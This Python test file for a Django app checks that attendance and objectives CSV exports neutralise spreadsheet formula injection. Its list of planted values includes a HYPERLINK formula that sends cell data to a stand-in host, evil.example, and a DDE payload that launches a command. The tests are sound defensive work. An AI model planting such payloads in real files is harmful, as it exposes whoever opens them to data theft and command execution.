"""Spreadsheet exports never carry a formula: a cell planted with `=HYPERLINK(…)` by someone
who edits a name or a title is plain text in the ADOC team's spreadsheet (OWASP CSV injection)."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from infrastructure.exports import neutralised
from meetings.models import Attendance, AttendanceStatus
from tests.factories import MeetingFactory, ObjectiveFactory

PLANTED = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tTab",
    "\rRetour",
]


@pytest.mark.parametrize("value", PLANTED)
def test_a_cell_that_would_be_a_formula_is_made_text(value):
    assert neutralised(value) == "'" + value


def test_plain_text_and_numbers_stay_as_they_are():
    assert neutralised("Maison de la famille") == "Maison de la famille"
    assert neutralised(-5) == -5
    assert neutralised("") == ""


def rows_of(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_attendance_export_neutralises_a_planted_guest_name(client, adoc, territory):
    meeting = MeetingFactory(
        body=territory["council"],
        starts=timezone.now() - datetime.timedelta(days=3),
        published_at=timezone.now(),
    )
    Attendance.objects.create(
        meeting=meeting, guest_name=PLANTED[0], status=AttendanceStatus.PRESENT
    )
    client.force_login(adoc)

    rows = rows_of(client.get(reverse("meetings:attendance-csv", args=[meeting.pk])))

    assert rows[1][0] == "'" + PLANTED[0]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_objectives_export_neutralises_a_planted_title(client, adoc, territory):
    ObjectiveFactory(chantier=territory["chantier"], title="=1+1", indicator="@cmd")
    client.force_login(adoc)

    rows = rows_of(client.get(reverse("chantiers:progress-export")))

    assert rows[1][4] == "'=1+1"
    assert "'@cmd" in rows[1]
